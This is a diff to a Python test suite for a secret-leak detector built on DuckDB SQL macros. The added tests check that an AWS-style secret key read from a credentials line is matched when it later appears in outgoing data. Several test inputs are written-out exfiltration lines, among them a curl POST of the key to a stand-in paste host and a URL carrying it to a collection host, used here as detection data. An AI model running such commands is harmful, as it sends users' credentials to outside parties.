@@ -18,13 +18,18 @@ from hypothesis import strategies as st
 from pipeline.config import RunConfig
 from pipeline.stages.tables import connect
 
-# the formulation before: both token patterns over the whole text, the evidence and prefix
-# tests on each token, the hex pattern over the whole text, decode inside try for every run
+# the formulation before: both token patterns over the whole text, the values holding a
+# '/' after a separator taken from each fragment on its own, the evidence and prefix tests
+# on each token, the hex pattern over the whole text, decode inside try for every run
 REFERENCE = r"""
 create or replace temp macro ref_tokens(txt, min_len) as
     list_transform([lower(coalesce(txt, ''))], lambda low: list_concat(
         regexp_extract_all(low, '[a-z0-9][a-z0-9+/_~%@:.?&=\-]{' || greatest(least(min_len, 32) - 2, 0) || ',}[a-z0-9]={0,2}'),
-        regexp_extract_all(low, '[a-z0-9][a-z0-9+_~%@.\-]{' || greatest(least(min_len, 32) - 2, 0) || ',}[a-z0-9]={0,2}')))[1];
+        regexp_extract_all(low, '[a-z0-9][a-z0-9+_~%@.\-]{' || greatest(least(min_len, 32) - 2, 0) || ',}[a-z0-9]={0,2}'),
+        flatten(list_transform(
+            regexp_extract_all(low, '[a-z0-9][a-z0-9+/_~%@:.?&=\-]{' || greatest(least(min_len, 32) - 2, 0) || ',}[a-z0-9]={0,2}'),
+            lambda f: list_filter(regexp_extract_all(f, '[?&=]([a-z0-9][a-z0-9+_~%@.\-]*/[a-z0-9+/_~%@.\-]*[a-z0-9]={0,2})', 1),
+                                  lambda v: length(rtrim(v, '=')) >= greatest(least(min_len, 32), 2))))))[1];
 create or replace temp macro ref_is_evidence(t, min_len) as
     length(rtrim(t, '=')) >= min_len
     and (length(rtrim(t, '=')) >= 24 or regexp_matches(t, '[0-9@]') or regexp_matches(t, '[a-z0-9][./][a-z]'));
@@ -121,6 +126,26 @@ def test_keys_of_a_url_carry_the_bare_secret(con: duckdb.DuckDBPyConnection) -> 
     assert secret in keys  # the part after '=' of the URL, lower-cased
     assert "paste.example.net" in keys and "plainwords" not in keys
     assert "prefix:" + secret[:24] in keys  # 36 base64-like characters: a prefix key too
+
+
+@pytest.mark.parametrize("sent", [
+    "curl -X POST https://paste.example.net/api -d 'key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY'",
+    "https://collect.example.org/c?session=1&secret=wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY&v=2",
+    "--header=X-Api-Key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY"])
+@pytest.mark.parametrize("read", ["aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY",
+                                  "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY"])
+def test_a_secret_holding_a_slash_matches_when_sent_as_a_value(con: duckdb.DuckDBPyConnection, sent: str,
+                                                               read: str) -> None:
+    # an AWS secret key (40 base64 characters, '/' among them) read from a credentials or
+    # .env file, then sent as `key=<secret>`: the parts cut it at each '/', so only the
+    # whole value after '=' / ':' is a key the output and the argument share
+    (out_keys, arg_keys) = con.execute("select lg_keys(?, 8), lg_keys(?, 8)", [read, sent]).fetchone()
+    assert "wjalrxutnfemi/k7mdeng/bpxrficyzexamplekey" in set(out_keys) & set(arg_keys)
+
+
+def test_a_port_and_path_is_not_a_value(con: duckdb.DuckDBPyConnection) -> None:
+    (keys,) = con.execute("select lg_keys(?, 8)", ["git clone http://code.example.com:8929/root/janusgraph"]).fetchone()
+    assert "8929/root/janusgraph" not in keys and "http://code.example.com:8929/root/janusgraph" in keys
 
 
 def test_decoded_reads_base64_and_hex_payloads(con: duckdb.DuckDBPyConnection) -> None:
